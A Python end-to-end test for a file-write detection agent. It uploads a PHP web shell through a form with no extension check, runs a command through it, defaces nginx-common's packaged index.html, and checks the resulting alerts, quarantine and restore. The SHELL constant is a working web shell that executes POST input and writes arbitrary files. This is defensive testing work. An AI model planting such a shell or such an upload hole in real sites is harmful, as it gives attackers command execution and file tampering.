"""Alert enrichment and the quarantine response end to end, on Debian's
nginx and php-fpm: a live agent on the real kernel that reads the site's
nginx config and follows its access log, a real collector (continuous
schedule) writing alerts to a file.

The site runs from its own config (``nginx -c``): the agent finds it on
the running server's command line. The attack: a web shell uploaded through the site's form (the hole: no
extension check), then called; through it, a file planted over a file of
Debian's nginx-common package. The alerts must carry the upload request
(client, URL, status), "not package-owned", "in the web root, executable",
the content signals; the shell's call comes as a follow-up document and on
the first rule's (later) alert; the planted file is package-owned and
differs from the packaged one. With ``quarantine = yes`` for the first rule
on both sides, the shell is moved into the quarantine directory (and the
planted file is refused: a package owns it); ``agent restore`` brings the
shell back with its owner and mode.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import shutil
import subprocess
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Callable

import pytest

from agent.shared.rule import Rule
from agent.shared.rules import NewTermsRule
from tests.e2e.test_live_agent import FAST, start_agent
from tests.support import php_site, procs

pytestmark = [
    pytest.mark.root,
    pytest.mark.slow,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root: fanotify and the site's daemons"),
]
SETTLE_S = 8  # the first rule alerts this long after the write: the shell is called in between
PACKAGED = "/usr/share/nginx/html/index.html"  # nginx-common's, in the new-terms rule's paths
SHELL = b"""<?php
if (isset($_POST['x'])) { echo shell_exec($_POST['x']); }
if (isset($_POST['p'])) { @unlink($_POST['p']); file_put_contents($_POST['p'], base64_decode($_POST['d'])); echo 'ok'; }
"""


def docs(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def wait_for(what: Callable[[], list[dict[str, Any]]], timeout: float = 30.0) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got = what()
        if got:
            return got
        time.sleep(0.2)
    return what()


def alerts_on(path: Path, rule_id: str, file_path: str) -> list[dict[str, Any]]:
    return [
        d for d in docs(path) if d["rule"]["id"] == rule_id and d.get("file", {}).get("path") == file_path
    ]


def of_action(path: Path, action: str, file_path: str) -> list[dict[str, Any]]:
    return [
        d
        for d in docs(path)
        if d["event"].get("action") == action and d.get("file", {}).get("path") == file_path
    ]


@contextlib.contextmanager
def writable_by_www(directory: str) -> Iterator[None]:
    """The packaged directory www-data may write for the test; every byte,
    owner and mode put back afterwards."""
    saved = {
        name: (Path(directory, name).read_bytes(), os.stat(Path(directory, name)))
        for name in os.listdir(directory)
    }
    st = os.stat(directory)
    os.chown(directory, 33, 33)
    try:
        yield
    finally:
        os.chown(directory, st.st_uid, st.st_gid)
        for name in os.listdir(directory):
            if name not in saved:
                os.unlink(Path(directory, name))
        for name, (data, fst) in saved.items():
            p = Path(directory, name)
            p.write_bytes(data)
            os.chown(p, fst.st_uid, fst.st_gid)
            os.chmod(p, fst.st_mode & 0o7777)
            os.utime(p, ns=(fst.st_atime_ns, fst.st_mtime_ns))


def post_form(site: php_site.Site, path: str, form: dict[str, str]) -> tuple[int, bytes]:
    body = urllib.parse.urlencode(form).encode()
    status, reply, _ = php_site.request(
        site,
        "POST",
        path,
        body,
        {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "evil/1.0"},
    )
    return status, reply


def test_an_uploaded_web_shell_alert_answers_the_first_questions_and_is_quarantined(tmp_path: Path) -> None:
    why = php_site.installed()
    if why:
        pytest.skip(why)
    if not os.path.exists(PACKAGED) or not os.path.exists("/var/lib/dpkg/info/nginx-common.list"):
        pytest.skip("nginx-common's packaged index.html is not here")
    alerts = tmp_path / "alerts.ndjson"
    qdir = tmp_path / "quarantine"
    collector_conf = tmp_path / "collector.conf"
    collector_conf.write_text("[rule]\nquarantine = yes\n")
    extra = ("--config", str(collector_conf), "--schedule", "continuous", "--settle", f"{SETTLE_S}s",
             "--alerts-file", str(alerts))  # fmt: skip
    with php_site.running_site() as site, writable_by_www(os.path.dirname(PACKAGED)):
        conf = (
            FAST.replace("[agent]\n", "[agent]\nheartbeat_interval = 1s\n")
            # no server_configs: the agent finds the site's config on the running nginx's command line
            + f"[enrich]\nquarantine_dir = {qdir}\n"
            + "[rule]\nquarantine = yes\n"
        )
        with procs.collector(str(tmp_path), *extra) as c:
            agent, _, _ = start_agent(
                tmp_path, c.url, site.root, conf, extra=("--watch", os.path.dirname(PACKAGED))
            )
            try:
                got = _attack(site, alerts, c, tmp_path)
            finally:
                procs.stop(agent)
        _restore_checks(tmp_path, qdir, got)


def _attack(site: php_site.Site, alerts: Path, c: procs.Collector, tmp: Path) -> dict[str, Any]:
    shell = f"{site.root}/uploads/avatar.php"
    body, headers = php_site.multipart("photo", "avatar.php", SHELL, "image/png")
    status, reply, _ = php_site.request(
        site, "POST", "/upload.php", body, {**headers, "User-Agent": "uploader/2.0"}
    )
    assert status == 200, (status, reply)
    shell_sha = hashlib.sha256(SHELL).hexdigest()
    nt = wait_for(lambda: alerts_on(alerts, NewTermsRule().rule_id, shell))
    assert nt, c.log_text()[-3000:] + (tmp / "agent.log").read_text()[-3000:]
    [ev] = nt[0]["rarewrite"]["events"]
    # the request that wrote it, found in the access log nginx's config names
    assert ev["http.request.method"] == "POST" and ev["url.original"] == "/upload.php", ev
    assert ev["source.ip"] == "127.0.0.1" and ev["http.response.status_code"] == 200, ev
    assert ev["user_agent.original"] == "uploader/2.0", ev
    assert ev["rarewrite.package.owned"] is False, ev
    assert ev["rarewrite.web_root.inside"] is True and ev["rarewrite.web_root.executable"] is True, ev
    assert (
        ev["rarewrite.web_root.path"] == site.root and ev["rarewrite.web_root.url"] == "/uploads/avatar.php"
    )
    assert {"request_to_exec", "exec_call"} <= set(ev["rarewrite.content.signals"]), ev
    assert ev["file.hash.sha256"] == shell_sha

    # the attacker calls the shell: a follow-up of the alert already out
    status, reply = post_form(site, "/uploads/avatar.php", {"x": "id -u"})
    assert status == 200 and reply.strip() == b"33", (status, reply)
    fu = wait_for(lambda: [d for d in of_action(alerts, "alert_followup", shell)
                           if d["rarewrite"]["followup"]["alert_id"] == nt[0]["kibana"]["alert"]["uuid"]])  # fmt: skip
    assert fu, c.log_text()[-3000:]
    [req] = fu[0]["rarewrite"]["followup"]["requests"]
    assert (req["http.request.method"], req["url.original"], req["user_agent.original"]) == (
        "POST", "/uploads/avatar.php", "evil/1.0"
    )  # fmt: skip

    # through it, a file planted over nginx-common's index.html
    planted = b"<html>defaced</html>\n"
    status, reply = post_form(
        site, "/uploads/avatar.php", {"p": PACKAGED, "d": base64.b64encode(planted).decode()}
    )
    assert status == 200 and reply.endswith(b"ok"), (status, reply)
    pk = wait_for(lambda: alerts_on(alerts, NewTermsRule().rule_id, PACKAGED))
    assert pk, c.log_text()[-3000:]
    [pev] = pk[0]["rarewrite"]["events"]
    assert pev["rarewrite.package.owned"] is True and pev["rarewrite.package.name"] == "nginx-common", pev
    assert pev["rarewrite.package.manager"] == "dpkg" and pev["rarewrite.package.differs"] is True, pev

    # the first rule's alert comes after the settle time: it carries the call too,
    # and (quarantine = yes on both sides) the shell is moved, the planted file refused
    first = wait_for(lambda: alerts_on(alerts, Rule().rule_id, shell), timeout=SETTLE_S + 30)
    assert first, c.log_text()[-3000:]
    [fev] = first[0]["rarewrite"]["events"]
    calls = fev["rarewrite.followup_requests"]  # the call, then the planting: both ask for the shell
    assert [r["url.original"] for r in calls] == ["/uploads/avatar.php"] * 2, fev
    assert all(r["user_agent.original"] == "evil/1.0" and not r["rarewrite.in_write_window"] for r in calls)
    moved = wait_for(lambda: of_action(alerts, "quarantine", shell))
    assert moved and moved[0]["rarewrite"]["response"]["result"] == "quarantined", (
        moved,
        c.log_text()[-2000:],
    )
    assert not os.path.exists(shell)
    status, _ = post_form(site, "/uploads/avatar.php", {"x": "id"})
    assert status == 404  # the shell is gone from the web root
    refused = wait_for(lambda: of_action(alerts, "quarantine", PACKAGED), timeout=SETTLE_S + 30)
    assert refused and refused[0]["rarewrite"]["response"]["result"] == "refused", refused
    assert "package" in refused[0]["rarewrite"]["response"]["why"]
    assert Path(PACKAGED).read_bytes() == planted  # never moved
    return {"shell": shell, "sha": shell_sha, "qid": moved[0]["rarewrite"]["response"]["qid"]}


def _restore_checks(tmp: Path, qdir: Path, got: dict[str, Any]) -> None:
    assert oct(os.stat(qdir).st_mode & 0o777) == "0o700"
    conf = tmp / "agent.conf"
    listed = subprocess.run(
        [*procs.RAREWRITE, "agent", "quarantined", "--config", str(conf)],
        capture_output=True,
        text=True,
        check=True,
    )
    [meta] = [json.loads(line) for line in listed.stdout.splitlines()]
    assert meta["qid"] == got["qid"] and meta["path"] == got["shell"] and meta["sha256"] == got["sha"]
    assert meta["uid"] == 33 and (qdir / got["qid"] / "file").stat().st_mode & 0o777 == 0o600
    out = subprocess.run(
        [*procs.RAREWRITE, "agent", "restore", got["qid"], "--config", str(conf)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    st = os.stat(got["shell"])
    assert (st.st_uid, st.st_gid) == (33, 33) and st.st_mode & 0o777 == meta["mode"]
    assert hashlib.sha256(Path(got["shell"]).read_bytes()).hexdigest() == got["sha"]
    again = subprocess.run(
        [*procs.RAREWRITE, "agent", "restore", got["qid"], "--config", str(conf)],
        check=False,
        capture_output=True,
        text=True,
    )
    assert again.returncode != 0 and "no quarantined file" in again.stderr
    audit = [json.loads(line)["action"] for line in (qdir / "audit.log").read_text().splitlines()]
    assert audit.count("quarantined") == 1 and audit.count("restored") == 1 and "refused" in audit
    shutil.rmtree(qdir)
